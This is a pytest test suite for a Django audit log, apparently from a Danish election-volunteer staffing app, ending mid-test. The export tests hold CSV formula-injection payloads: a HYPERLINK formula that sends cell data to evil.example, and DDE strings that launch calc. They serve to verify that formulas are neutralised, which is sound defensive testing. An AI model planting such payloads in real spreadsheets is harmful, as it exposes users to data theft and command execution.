"""The audit log: append-only, kept for a retention period, exported as CSV,
browsed and filtered by admins; sign-ins, reads of personal data and the
services' writes all leave entries."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta

import pytest
from django.conf import settings as django_settings
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.db import IntegrityError, connection, transaction
from django.forms.models import model_to_dict
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts import audit, retention
from accounts.audit_export import HEADER
from accounts.models import ActorKind, AuditEntry, AuditLogIsAppendOnly, User
from elections import services as election_services
from elections.models import Election
from pollcrew.refusals import Refused
from polling_stations import services as station_services
from polling_stations.models import Area, PollingStation
from staffing import services as staffing_services
from tests import factories as f
from volunteers import services as volunteer_services
from volunteers.models import Team, Volunteer

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_user():
    return User.objects.create_superuser("admin@kommune.dk", "et-langt-kodeord")


@pytest.fixture
def admin_client(admin_user):
    client = Client()
    client.force_login(admin_user)
    return client


def login(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def local(*args: int) -> datetime:
    return datetime(*args, tzinfo=timezone.get_current_timezone())


def entry_at(at: datetime, action: str = "test.thing", **kwargs) -> AuditEntry:
    """An entry written at a given time (entries are never changed afterwards)."""
    new = audit.entry(action, by=kwargs.pop("by", None), **kwargs)
    new.at = at
    new.save()
    return new


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# --- append-only ----------------------------------------------------------------


def test_an_entry_cannot_be_changed_through_the_model():
    e = audit.record("test.original", by=None, object_repr="Karen")
    e.action = "test.forged"
    with pytest.raises(AuditLogIsAppendOnly):
        e.save()
    with pytest.raises(AuditLogIsAppendOnly):
        e.save(update_fields=["action"])
    e.refresh_from_db()
    assert e.action == "test.original"


def test_an_entry_cannot_be_deleted_through_the_model():
    e = audit.record("test.original", by=None)
    with pytest.raises(AuditLogIsAppendOnly):
        e.delete()
    assert AuditEntry.objects.filter(pk=e.pk).exists()


@pytest.mark.parametrize(
    "write",
    [
        pytest.param(lambda qs, e: qs.update(action="test.forged"), id="update"),
        pytest.param(lambda qs, e: qs.filter(pk=e.pk).update(action="test.forged"), id="filter"),
        pytest.param(lambda qs, e: qs.delete(), id="delete"),
        pytest.param(lambda qs, e: qs.filter(pk=e.pk).delete(), id="filter-delete"),
        pytest.param(
            lambda qs, e: qs.bulk_update([AuditEntry(pk=e.pk, action="x")], ["action"]),
            id="bulk_update",
        ),
        pytest.param(
            lambda qs, e: qs.update_or_create(pk=e.pk, defaults={"action": "test.forged"}),
            id="update_or_create",
        ),
    ],
)
def test_an_entry_cannot_be_changed_or_deleted_through_a_queryset(write):
    e = audit.record("test.original", by=None)
    for qs in (AuditEntry.objects, AuditEntry.objects.all()):
        with pytest.raises(AuditLogIsAppendOnly):
            write(qs, e)
    e.refresh_from_db()
    assert e.action == "test.original"
    assert AuditEntry.objects.count() == 1


@pytest.mark.parametrize(
    "overwrite",
    [
        pytest.param(lambda forged: forged.save(), id="save"),
        pytest.param(lambda forged: forged.save(force_update=True), id="save-force-update"),
        pytest.param(
            lambda forged: AuditEntry.objects.bulk_create(
                [forged],
                update_conflicts=True,
                unique_fields=["id"],
                update_fields=["action", "object_repr"],
            ),
            id="bulk_create-upsert",
        ),
    ],
)
def test_an_entry_cannot_be_overwritten_by_a_new_object_with_its_id(overwrite):
    """A new instance carrying an existing entry's id must not replace that entry."""
    e = audit.record("test.original", by=None, object_repr="Karen")
    forged = AuditEntry(
        pk=e.pk, action="test.forged", actor_kind=ActorKind.SYSTEM, object_repr="Mallory"
    )
    with pytest.raises((AuditLogIsAppendOnly, IntegrityError)), transaction.atomic():
        overwrite(forged)
    e.refresh_from_db()
    assert (e.action, e.object_repr) == ("test.original", "Karen")


def test_record_many_writes_all_entries_at_once(django_assert_num_queries):
    entries = [audit.entry("test.bulk", by=None, object_repr=f"#{i}") for i in range(5)]
    with django_assert_num_queries(1):
        audit.record_many(entries)
    assert sorted(AuditEntry.objects.values_list("object_repr", flat=True)) == [
        f"#{i}" for i in range(5)
    ]


def _bulk_sample(action: str, by: User, at: datetime) -> tuple[list[AuditEntry], list[tuple]]:
    """Entries as the services make them, half as model instances and half as plain
    rows (the seat grid's): text a COPY must escape (tab, newline, backslash,
    quotes, Danish letters), nested JSON with None, a staff actor and the system,
    an IP address or none."""
    made = []
    for i in range(6):
        e = audit.entry(
            action,
            by=by if i % 2 else None,
            object_type="elections.shift",
            object_id=i,
            object_repr=f'Valgstyrer · Nørre\tSkole\\{i}\n"Å"',
            election_id=7 if i < 4 else None,
            changes={"capacity": [i, i + 1], "starts_at": [None, "2027-06-05T08:00:00+02:00"]},
            detail={"via": "seat grid", "removed": ["Åse Ørsted", "O'Brien"], "told": None},
            ip="10.0.0.1" if i % 3 == 0 else None,
        )
        e.at = at + timedelta(microseconds=i)
        made.append(e)
    return made[:3], [audit.as_row(e) for e in made[3:]]


def _stored(action: str) -> list[tuple]:
    return list(
        AuditEntry.objects.filter(action=action)
        .order_by("object_id")
        .values_list(*[c for c in audit.AUDIT_COLUMNS if c != "action"])
    )


def test_record_many_writes_the_same_entries_by_insert_and_by_copy(monkeypatch):
    """One at a time (the reference), one INSERT, and on PostgreSQL one COPY: the
    same rows in the log."""
    by = f.user("koordinator@kommune.dk", coordinator=True)
    at = datetime(2027, 6, 1, 9, 30, 15, 123000, tzinfo=UTC)
    entries, rows = _bulk_sample("test.one_by_one", by, at)
    as_entries = [AuditEntry(**dict(zip(audit.AUDIT_COLUMNS, r, strict=True))) for r in rows]
    for e in [*entries, *as_entries]:
        e.save(force_insert=True)
    reference = _stored("test.one_by_one")
    assert len(reference) == 6

    paths = {"insert": 10**9, "copy": 1}
    if connection.vendor != "postgresql":
        del paths["copy"]  # COPY is PostgreSQL's; elsewhere always one INSERT
    for path, copy_at_least in paths.items():
        monkeypatch.setattr(audit, "COPY_AT_LEAST", copy_at_least)
        entries, rows = _bulk_sample(f"test.{path}", by, at)
        assert audit.record_many(entries, rows=rows) == 6
        assert _stored(f"test.{path}") == reference, path
    assert audit.record_many([]) == 0


def test_the_django_admin_shows_entries_but_cannot_add_change_or_delete(admin_client):
    e = audit.record("test.original", by=None, object_repr="Karen Jensen")
    changelist = reverse("admin:accounts_auditentry_changelist")
    response = admin_client.get(changelist)
    assert response.status_code == 200
    assert "Karen Jensen" in response.content.decode()
    # No actions at all (Django's "delete selected" needs the delete permission).
    assert response.context["action_form"] is None
    assert admin_client.get(changelist, {"q": "Karen"}).status_code == 200

    assert admin_client.get(reverse("admin:accounts_auditentry_add")).status_code == 403
    assert admin_client.post(reverse("admin:accounts_auditentry_add"), {}).status_code == 403
    change = reverse("admin:accounts_auditentry_change", args=[e.pk])
    page = admin_client.get(change)
    # Read-only: the page shows the entry, with no way to save it.
    assert page.status_code == 200
    assert 'name="_save"' not in page.content.decode()
    assert (
        admin_client.post(change, {"action": "test.forged", "actor_kind": "system"}).status_code
        == 403
    )
    delete = reverse("admin:accounts_auditentry_delete", args=[e.pk])
    assert admin_client.get(delete).status_code == 403
    assert admin_client.post(delete, {"post": "yes"}).status_code == 403
    # The bulk delete action is not offered; posting it anyway deletes nothing.
    admin_client.post(
        changelist, {"action": "delete_selected", "_selected_action": [e.pk], "post": "yes"}
    )
    e.refresh_from_db()
    assert e.action == "test.original"


# --- retention ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("moment", "months", "expected"),
    [
        # 31 March minus a month: the end of February (28th, or the 29th in a leap year).
        (local(2026, 3, 31, 12), 1, "2026-02-28T12:00:00+01:00"),
        (local(2024, 3, 31, 12), 1, "2024-02-29T12:00:00+01:00"),
        (local(2025, 5, 31, 9, 30), 1, "2025-04-30T09:30:00+02:00"),
        (local(2025, 3, 29, 8), 13, "2024-02-29T08:00:00+01:00"),
        (local(2025, 3, 31, 8), 13, "2024-02-29T08:00:00+01:00"),
        (local(2026, 1, 15, 10), 13, "2024-12-15T10:00:00+01:00"),
        # The same wall-clock time across a change to or from summer time.
        (local(2026, 7, 15, 12), 6, "2026-01-15T12:00:00+01:00"),
        (local(2026, 1, 15, 12), 6, "2025-07-15T12:00:00+02:00"),
        # A moment given in UTC counts in local days: 31 March 22:30 UTC is 1 April
        # 00:30 in Copenhagen, so a month earlier is 1 March, not 28 February.
        (datetime(2026, 3, 31, 22, 30, tzinfo=UTC), 1, "2026-03-01T00:30:00+01:00"),
        (local(2026, 12, 31, 23, 59), 12, "2025-12-31T23:59:00+01:00"),
        (local(2026, 1, 31, 0, 0), 0, "2026-01-31T00:00:00+01:00"),
    ],
)
def test_months_before_counts_calendar_months_in_local_time(moment, months, expected):
    assert django_settings.TIME_ZONE == "Europe/Copenhagen"
    assert retention.months_before(moment, months).isoformat() == expected


def test_retention_cutoff_follows_the_setting(settings):
    now = local(2026, 3, 31, 12)
    settings.AUDIT_RETENTION_MONTHS = 13
    assert retention.retention_cutoff(now).isoformat() == "2025-02-28T12:00:00+01:00"
    settings.AUDIT_RETENTION_MONTHS = 1
    assert retention.retention_cutoff(now).isoformat() == "2026-02-28T12:00:00+01:00"


def test_the_default_retention_is_13_months():
    assert django_settings.AUDIT_RETENTION_MONTHS == 13


def test_purge_deletes_entries_older_than_the_retention_period_and_logs_itself(settings):
    settings.AUDIT_RETENTION_MONTHS = 13
    now = local(2026, 3, 31, 12)
    cutoff = local(2025, 2, 28, 12)
    ancient = entry_at(local(2020, 1, 1), object_repr="ancient")
    old = entry_at(local(2024, 6, 1), object_repr="old")
    just_old = entry_at(cutoff - timedelta(seconds=1), object_repr="just old")
    at_cutoff = entry_at(cutoff, object_repr="at cutoff")
    recent = entry_at(local(2025, 3, 1), object_repr="recent")
    today = entry_at(now - timedelta(hours=1), object_repr="today")

    assert retention.purge_audit_log(now) == 3

    left = set(AuditEntry.objects.values_list("pk", flat=True))
    assert {ancient.pk, old.pk, just_old.pk}.isdisjoint(left)
    assert {at_cutoff.pk, recent.pk, today.pk} < left
    purge = AuditEntry.objects.get(action="accounts.purge_audit_log")
    assert purge.actor is None
    assert purge.actor_kind == ActorKind.SYSTEM
    assert purge.detail == {"deleted": 3, "before": cutoff.isoformat()}
    assert left == {at_cutoff.pk, recent.pk, today.pk, purge.pk}


def test_purge_with_a_shorter_retention_deletes_more(settings):
    settings.AUDIT_RETENTION_MONTHS = 1
    now = timezone.now()
    entry_at(now - timedelta(days=45), object_repr="six weeks")
    kept = entry_at(now - timedelta(days=20), object_repr="three weeks")
    assert retention.purge_audit_log(now) == 1
    assert set(AuditEntry.objects.exclude(action="accounts.purge_audit_log")) == {kept}
    assert AuditEntry.objects.get(action="accounts.purge_audit_log").detail["deleted"] == 1


def test_purge_with_nothing_to_delete_writes_nothing(settings):
    settings.AUDIT_RETENTION_MONTHS = 13
    kept = entry_at(timezone.now() - timedelta(days=300))
    assert retention.purge_audit_log() == 0
    assert list(AuditEntry.objects.all()) == [kept]


def test_purge_before_is_the_only_way_to_delete():
    now = timezone.now()
    old = entry_at(now - timedelta(days=10))
    new = entry_at(now)
    assert AuditEntry.objects.purge_before(now - timedelta(days=1)) == 1
    assert list(AuditEntry.objects.all()) == [new]
    assert not AuditEntry.objects.filter(pk=old.pk).exists()


def test_the_purge_task_runs_daily_from_the_beat_schedule(settings):
    from accounts.tasks import purge_audit_log
    from pollcrew.celery import app

    schedule = django_settings.CELERY_BEAT_SCHEDULE["purge-audit-log"]
    assert schedule["task"] == "accounts.tasks.purge_audit_log"
    assert schedule["task"] in app.tasks
    assert schedule["schedule"] <= timedelta(days=1)

    settings.AUDIT_RETENTION_MONTHS = 13
    entry_at(timezone.now() - timedelta(days=500))
    kept = entry_at(timezone.now() - timedelta(days=30))
    assert purge_audit_log.delay().get() == 1
    assert kept in AuditEntry.objects.all()
    assert AuditEntry.objects.filter(action="accounts.purge_audit_log").count() == 1


# --- export_audit command -------------------------------------------------------


def export(*args: str) -> str:
    out = io.StringIO()
    call_command("export_audit", *args, stdout=out)
    return out.getvalue()


def test_export_command_writes_the_given_local_days_in_time_order():
    # Written out of order; 1 March 00:00 in Copenhagen is 28 February 23:00 UTC.
    entry_at(local(2026, 3, 2, 23, 59, 59), "test.last", object_repr="last")
    entry_at(local(2026, 2, 28, 23, 59, 59), "test.before", object_repr="before")
    entry_at(local(2026, 3, 3, 0, 0), "test.after", object_repr="after")
    entry_at(
        local(2026, 3, 1, 0, 0),
        "test.first",
        object_repr="first",
        changes={"name": ["Ørsted", "Østergaard"]},
        detail={"query": "søren", "results": 2},
        ip="192.0.2.7",
    )
    entry_at(local(2026, 3, 1, 12, 0), "test.middle", object_repr="middle")

    text = export("--since", "2026-03-01", "--until", "2026-03-02")
    assert next(csv.reader(io.StringIO(text))) == list(HEADER)
    rows = csv_rows(text)
    assert [r["object"] for r in rows] == ["first", "middle", "last"]
    first = rows[0]
    assert first["time"] == "2026-03-01T00:00:00+01:00"
    assert first["action"] == "test.first"
    assert first["actor_kind"] == "system"
    assert json.loads(first["changes"]) == {"name": ["Ørsted", "Østergaard"]}
    assert json.loads(first["detail"]) == {"query": "søren", "results": 2}
    assert first["ip"] == "192.0.2.7"
    assert rows[1]["changes"] == rows[1]["ip"] == ""


def test_export_command_with_one_day_and_default_until():
    entry_at(timezone.now() - timedelta(days=3), object_repr="three days ago")
    entry_at(timezone.now(), object_repr="now")
    today = timezone.localdate().isoformat()
    assert [r["object"] for r in csv_rows(export("--since", today))] == ["now"]
    assert [r["object"] for r in csv_rows(export("--since", today, "--until", today))] == ["now"]


def test_export_command_names_the_staff_user():
    user = f.user("kontor@kommune.dk")
    audit.record("test.staff", by=user, object_repr="x")
    (row,) = csv_rows(export("--since", timezone.localdate().isoformat()))
    assert (row["actor_kind"], row["actor"]) == ("staff", "kontor@kommune.dk")


@pytest.mark.parametrize(
    "args",
    [
        ("--since", "2026-02-30"),
        ("--since", "yesterday"),
        ("--since", "2026-03-01", "--until", "1.3.2026"),
        ("--since", "2026-03-02", "--until", "2026-03-01"),
        (),
    ],
)
def test_export_command_refuses_bad_dates(args):
    with pytest.raises(CommandError):
        export(*args)


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")',
        "+45 20 12 34 56",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_export_neutralises_formulas(text):
    audit.record("test.formula", by=None, object_repr=text)
    (row,) = csv_rows(export("--since", timezone.localdate().isoformat()))
    assert row["object"] == "'" + text


def test_export_keeps_ordinary_text_as_it_is():
    audit.record("test.formula", by=None, object_repr="Karen = Jensen, 20 + 12")
    (row,) = csv_rows(export("--since", timezone.localdate().isoformat()))
    assert row["object"] == "Karen = Jensen, 20 + 12"


# --- the audit page -------------------------------------------------------------


@pytest.fixture
def logbook():
    """Entries by two staff users, a volunteer and the system, in two elections."""
    # No roles: granting one is audited too, and would add entries.
    alice = f.user("alice@kommune.dk")
    bob = f.user("bob@kommune.dk")
    e1, e2 = f.election(name="Valg A"), f.election(name="Valg B")
    entry_at(
        local(2025, 1, 10, 9),
        "staffing.invite",
        by=alice,
        election_id=e1.pk,
        object_type="staffing.assignment",
        object_repr="a-invite",
    )
    entry_at(
        local(2025, 1, 11, 0, 0),
        "staffing.accept",
        actor=ActorKind.VOLUNTEER,
        election_id=e1.pk,
        object_type="staffing.assignment",
        object_repr="v-accept",
    )
    entry_at(
        local(2025, 1, 11, 23, 59),
        "read.staffing.station",
        by=bob,
        election_id=e2.pk,
        object_type="polling_stations.pollingstation",
        object_repr="b-read",
    )
    entry_at(
        local(2025, 1, 12, 0, 0),
        "volunteers.update_volunteer",
        by=bob,
        object_type="volunteers.volunteer",
        object_repr="b-update",
        changes={"phone": ["+4520123456", "+4520654321"]},
    )
    entry_at(
        local(2025, 1, 13, 3),
        "staffing.expire",
        election_id=e2.pk,
        object_type="staffing.assignment",
        object_repr="s-expire",
    )
    return {"alice": alice, "bob": bob, "e1": e1, "e2": e2}


def shown(client: Client, **params) -> list[str]:
    response = client.get(reverse("administration:audit"), params)
    assert response.status_code == 200
    return [e.object_repr for e in response.context["page"].object_list]


def exported(client: Client, **params) -> list[str]:
    response = client.get(reverse("administration:audit_export"), params)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = csv_rows(b"".join(response.streaming_content).decode())
    # The export's own entry is written first, and never listed in it.
    assert all(r["action"] != "read.audit_export" for r in rows)
    return [r["object"] for r in rows]


def test_audit_page_lists_entries_newest_first(admin_client, logbook):
    page = admin_client.get(reverse("administration:audit"))
    html = page.content.decode()
    reprs = [e.object_repr for e in page.context["page"].object_list]
    # The admin's own sign-in (force_login) is the newest entry.
    assert reprs[1:] == ["s-expire", "b-update", "b-read", "v-accept", "a-invite"]
    assert page.context["page"].object_list[0].action == "auth.login"
    assert "+4520123456 → +4520654321" in html
    assert "bob@kommune.dk" in html


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        (lambda w: {"actor": w["alice"].pk}, ["a-invite"]),
        (lambda w: {"actor": w["bob"].pk}, ["b-update", "b-read"]),
        (lambda w: {"actor_kind": "volunteer"}, ["v-accept"]),
        (lambda w: {"actor_kind": "system", "since": "2025-01-01"}, ["s-expire"]),
        # A prefix of the action: "staffing." is not "read.staffing.…".
        (lambda w: {"action": "staffing."}, ["s-expire", "v-accept", "a-invite"]),
        (lambda w: {"action": "staffing.accept"}, ["v-accept"]),
        (lambda w: {"action": "read."}, ["b-read"]),
        (lambda w: {"object_type": "staffing.assignment"}, ["s-expire", "v-accept", "a-invite"]),
        (lambda w: {"object_type": "volunteers.volunteer"}, ["b-update"]),
        (lambda w: {"object_type": "volunteers"}, []),
        (lambda w: {"election": w["e1"].pk}, ["v-accept", "a-invite"]),
        (lambda w: {"election": w["e2"].pk}, ["s-expire", "b-read"]),
        # Local days, both ends included.
        (lambda w: {"since": "2025-01-11", "until": "2025-01-11"}, ["b-read", "v-accept"]),
        (lambda w: {"since": "2025-01-12", "until": "2025-01-13"}, ["s-expire", "b-update"]),
        (lambda w: {"until": "2025-01-10"}, ["a-invite"]),
        (
            lambda w: {"actor": w["bob"].pk, "election": w["e2"].pk, "until": "2025-01-12"},
            ["b-read"],
        ),
        # The end before the start matches nothing.
        (lambda w: {"since": "2025-01-13", "until": "2025-01-10"}, []),
    ],
)
def test_audit_page_and_export_filters(admin_client, logbook, params, expected):
    query = params(logbook)
    assert shown(admin_client, **query) == expected
    # The export has the same entries, oldest first.
    assert exported(admin_client, **query) == list(reversed(expected))


def test_the_export_is_audited_with_its_filters(admin_client, admin_user, logbook):
    response = admin_client.get(
        reverse("administration:audit_export"), {"action": "staffing.", "since": "2025-01-01"}
    )
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    export_entry = AuditEntry.objects.get(action="read.audit_export")
    assert export_entry.actor == admin_user
    assert export_entry.actor_kind == ActorKind.STAFF
    assert export_entry.ip == "127.0.0.1"
    assert "action=staffing." in export_entry.detail["filters"]
    assert "since=2025-01-01" in export_entry.detail["filters"]


def test_the_export_neutralises_formulas(admin_client):
    audit.record("test.formula", by=None, object_repr='=HYPERLINK("http://evil.example")')
    assert exported(admin_client, action="test.") == ['\'=HYPERLINK("http://evil.example")']


@pytest.mark.parametrize("name", ["administration:audit", "administration:audit_export"])
def test_audit_pages_are_404_for_everyone_but_admins(name, logbook):
    for user in (f.user(coordinator=True), f.user(role="viewer"), f.user()):
        assert login(user).get(reverse(name)).status_code == 404
    assert not AuditEntry.objects.filter(action="read.audit_export").exists()
    response = Client().get(reverse(name))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


def test_audit_page_query_count_does_not_grow(
    admin_client, django_assert_num_queries, django_assert_max_num_queries
):
    users = [f.user(f"person{i}@kommune.dk") for i in range(3)]
    elections = [f.election() for _ in range(3)]

    def add(count: int) -> None:
        audit.record_many(
            audit.entry(
                "staffing.invite",
                by=users[i % 3],
                election_id=elections[i % 3].pk,
                object_type="staffing.assignment",
                object_id=i,
                object_repr=f"seat {i}",
                changes={"status": [None, "invited"]},
                detail={"round": i},
            )
            for i in range(count)
        )

    url = reverse("administration:audit")
    filtered = {"actor": users[0].pk, "election": elections[0].pk, "action": "staffing."}
    add(3)
    admin_client.get(url)
    with django_assert_max_num_queries(12) as few:
        # The three entries and the admin's sign-in.
        assert len(admin_client.get(url).context["page"].object_list) == 4
    with django_assert_max_num_queries(14) as few_filtered:
        assert len(admin_client.get(url, filtered).context["page"].object_list) == 1
    add(147)
    with django_assert_num_queries(len(few.captured_queries)):
        response = admin_client.get(url)
    assert len(response.context["page"].object_list) == 100
    with django_assert_num_queries(len(few.captured_queries)):
        response = admin_client.get(url, {"page": "2"})
    # 150 entries and the sign-in, 100 a page.
    assert len(response.context["page"].object_list) == 51
    with django_assert_num_queries(len(few_filtered.captured_queries)):
        response = admin_client.get(url, filtered)
    assert len(response.context["page"].object_list) == 50


# --- sign-in events -------------------------------------------------------------


@pytest.fixture
def fresh_rate_limits():
    # allauth counts failed sign-ins per address in the cache; start from none.
    cache.clear()
    yield
    cache.clear()


def test_a_sign_in_through_the_login_form_is_audited(client, fresh_rate_limits):
    user = f.user("Koordinator@Kommune.dk", coordinator=True, password="rigtig-godt-kodeord")
    response = client.post(
        reverse("account_login"),
        {"login": "koordinator@kommune.dk", "password": "rigtig-godt-kodeord"},
    )
    assert response.status_code == 302
    login_entry = AuditEntry.objects.get(action="auth.login")
    assert login_entry.actor == user
    assert login_entry.actor_kind == ActorKind.STAFF
    assert login_entry.actor_label == "koordinator@kommune.dk"
    assert (login_entry.object_type, login_entry.object_id) == ("accounts.user", user.pk)
    assert login_entry.ip == "127.0.0.1"
    assert not AuditEntry.objects.filter(action="auth.login_failed").exists()


def test_a_wrong_password_is_audited_without_the_password(client, fresh_rate_limits):
    user = f.user("koordinator@kommune.dk", password="rigtig-godt-kodeord")
    response = client.post(
        reverse("account_login"),
        {"login": "Koordinator@Kommune.dk", "password": "Forkert-Hemmeligt-9"},
        REMOTE_ADDR="203.0.113.9",
    )
    assert response.status_code == 200
    assert not AuditEntry.objects.filter(action="auth.login").exists()
    failed = AuditEntry.objects.get(action="auth.login_failed")
    assert failed.actor is None
    assert failed.actor_kind == ActorKind.SYSTEM
    assert failed.object_id == user.pk
    assert failed.ip == "203.0.113.9"
    assert failed.detail["attempted"].lower() == "koordinator@kommune.dk"
    everything = json.dumps(model_to_dict(failed), default=str)
    assert "Forkert-Hemmeligt-9" not in everything
    assert "*****" not in everything


def test_a_sign_in_with_an_unknown_email_is_audited(client, fresh_rate_limits):
    client.post(reverse("account_login"), {"login": "ukendt@example.dk", "password": "noget-1234"})
    failed = AuditEntry.objects.get(action="auth.login_failed")
    assert failed.object_id is None
    assert failed.detail == {"attempted": "ukendt@example.dk"}
    assert "noget-1234" not in json.dumps(model_to_dict(failed), default=str)


def test_a_sign_out_is_audited(client, fresh_rate_limits):
    user = f.user("koordinator@kommune.dk", coordinator=True, password="rigtig-godt-kodeord")
    client.post(
        reverse("account_login"),
        {"login": "koordinator@kommune.dk", "password": "rigtig-godt-kodeord"},
    )
    response = client.post(reverse("account_logout"))
    assert response.status_code == 302
    logout_entry = AuditEntry.objects.get(action="auth.logout")
    assert logout_entry.actor == user
    assert logout_entry.object_id == user.pk
    assert logout_entry.ip == "127.0.0.1"
    # Signed out for real: the staff pages send them to the login page.
    assert client.get(reverse("staffing:elections")).status_code == 302


# --- reads of personal data -----------------------------------------------------


@pytest.fixture
def world():
    e = f.election(name="Folketingsvalg 2027")
    station = f.station(f.area("Nord"), name="Vestre Skole")
    shift = f.shift(e, station_=station, capacity=3)
    karen = f.volunteer(first_name="Karen", last_name="Blixen")
    staffing_services.accept(staffing_services.invite(shift, [karen], by=None).invited[0])
    return e, station, shift, karen


def reads(action: str) -> list[AuditEntry]:
    return list(AuditEntry.objects.filter(action=action))


def test_station_page_with_contact_data_is_audited(world, coordinator):
    e, station, _shift, _karen = world
    response = login(coordinator).get(reverse("staffing:station", args=[e.pk, station.pk]))
    assert response.status_code == 200
    assert "Karen Blixen" in response.content.decode()
    (read,) = reads("read.station_people")
    assert read.actor == coordinator
    assert (read.object_type, read.object_id) == ("polling_stations.pollingstation", station.pk)
    assert read.object_repr == "Vestre Skole"
    assert read.election_id == e.pk
    assert read.detail == {"people": 1}
    assert read.ip == "127.0.0.1"


def test_station_page_for_a_viewer_shows_no_contact_data_and_is_not_audited(world):
    e, station, _shift, karen = world
    viewer = f.user(role="viewer")
    response = login(viewer).get(reverse("staffing:station", args=[e.pk, station.pk]))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Vestre Skole" in page
    assert "Blixen" not in page and karen.email not in page
    assert reads("read.station_people") == []


def test_station_page_without_people_is_not_audited(coordinator):
    e = f.election()
    station = f.station()
    f.shift(e, station_=station)
    response = login(coordinator).get(reverse("staffing:station", args=[e.pk, station.pk]))
    assert response.status_code == 200
    assert reads("read.station_people") == []


def test_invite_search_with_results_is_audited(world, coordinator):
    e, _station, _shift, _karen = world
    other_shift = f.shift(e, start=6, end=7)
    f.volunteer(first_name="Karen", last_name="Ung")
    f.volunteer(first_name="Søren", last_name="Østergaard", email="soeren@example.dk")
    client = login(coordinator)
    url = reverse("staffing:invite", args=[e.pk, other_shift.pk])
    page = client.get(url, {"q": "karen"}).content.decode()
    assert "Karen Blixen" in page and "Karen Ung" in page
    (read,) = reads("read.volunteer_search")
    assert read.actor == coordinator
    assert read.election_id == e.pk
    assert read.detail == {"query": "karen", "results": 2, "shift": other_shift.pk}
    # Nothing found, nothing read; no search at all, nothing read.
    client.get(url, {"q": "zzzz-ingen"})
    client.get(url)
    assert len(reads("read.volunteer_search")) == 1


def test_roster_pdf_is_audited(world, coordinator):
    e, station, _shift, _karen = world
    day = e.election_date.isoformat()
    response = login(coordinator).get(reverse("documents:roster", args=[e.pk, station.pk, day]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    (read,) = reads("read.roster")
    assert read.actor == coordinator
    assert read.object_id == station.pk
    assert read.election_id == e.pk
    assert read.detail == {"day": day}


def test_roster_that_is_refused_is_not_audited(world):
    e, station, _shift, _karen = world
    viewer = f.user(role="viewer")
    day = e.election_date.isoformat()
    response = login(viewer).get(reverse("documents:roster", args=[e.pk, station.pk, day]))
    assert response.status_code == 404
    assert reads("read.roster") == []


def test_team_page_is_audited(coordinator):
    team = f.team("Frivilliggruppen")
    for name in ("Anna", "Bo"):
        f.volunteer(first_name=name).teams.add(team)
    response = login(coordinator).get(reverse("staffing:team", args=[team.pk]))
    assert response.status_code == 200
    (read,) = reads("read.team_members")
    assert read.actor == coordinator
    assert (read.object_type, read.object_id) == ("volunteers.team", team.pk)
    assert read.detail == {"people": 2}


def test_django_admin_volunteer_page_is_audited(admin_client, admin_user):
    v = f.volunteer(first_name="Åse", last_name="Ørsted")
    response = admin_client.get(reverse("admin:volunteers_volunteer_change", args=[v.pk]))
    assert response.status_code == 200
    (read,) = reads("read.volunteer")
    assert read.actor == admin_user
    assert (read.object_type, read.object_id, read.object_repr) == (
        "volunteers.volunteer",
        v.pk,
        "Åse Ørsted",
    )


def test_django_admin_volunteer_search_is_audited(admin_client, admin_user):
    f.volunteer(first_name="Åse", last_name="Ørsted")
    f.volunteer(first_name="Bent", last_name="Ørsted")
    f.volunteer(first_name="Carl", last_name="Hansen")
    url = reverse("admin:volunteers_volunteer_changelist")
    assert admin_client.get(url).status_code == 200
    assert reads("read.volunteer_search") == []
    response = admin_client.get(url, {"q": "Ørsted"})
    assert response.status_code == 200
    (read,) = reads("read.volunteer_search")
    assert read.actor == admin_user
    assert read.detail == {"query": "Ørsted", "results": 2}


# --- the services' writes -------------------------------------------------------


def entries(action: str) -> list[AuditEntry]:
    return list(AuditEntry.objects.filter(action=action).order_by("pk"))


def test_area_and_station_writes_are_audited(admin_user):
    area = station_services.create_area(by=admin_user, name="Nord")
    (created,) = entries("polling_stations.create_area")
    assert created.actor == admin_user
    assert (created.object_id, created.changes) == (area.pk, {"name": [None, "Nord"]})

    area = station_services.update_area(area, by=admin_user, name="Nordvest")
    station_services.update_area(area, by=admin_user, name="Nordvest")  # no change, no entry
    (updated,) = entries("polling_stations.update_area")
    assert updated.changes == {"name": ["Nord", "Nordvest"]}

    station = station_services.create_station(
        by=admin_user,
        area=area,
        name="Vestre Skole",
        address="Skolevej 1",
        postal_code="8000",
        city="Aarhus",
    )
    (created,) = entries("polling_stations.create_station")
    assert created.object_id == station.pk
    assert created.changes["area"] == [None, area.pk]
    assert created.changes["name"] == [None, "Vestre Skole"]

    station = station_services.update_station(
        station, by=admin_user, name="Østre Skole", city="Aarhus C"
    )
    (updated,) = entries("polling_stations.update_station")
    assert updated.changes == {
        "name": ["Vestre Skole", "Østre Skole"],
        "city": ["Aarhus", "Aarhus C"],
    }

    pk = station.pk
    station_services.delete_station(station, by=admin_user)
    (deleted,) = entries("polling_stations.delete_station")
    assert not PollingStation.objects.filter(pk=pk).exists()
    assert (deleted.object_id, deleted.object_repr) == (pk, "Østre Skole")
    assert deleted.changes["name"] == ["Østre Skole", None]

    station_services.delete_area(area, by=admin_user)
    (deleted,) = entries("polling_stations.delete_area")
    assert deleted.changes == {"name": ["Nordvest", None]}


def test_a_delete_records_what_was_deleted_not_a_stale_copy(admin_user):
    """The caller's object may be older than the row (changed since it was loaded,
    here by the update service, which returns a fresh object): the entry says
    what the deleted row held."""
    station = f.station(f.area("Nord"), name="Vestre Skole")
    station_services.update_station(station, by=admin_user, name="Østre Skole")
    pk = station.pk
    station_services.delete_station(station, by=admin_user)  # the stale object
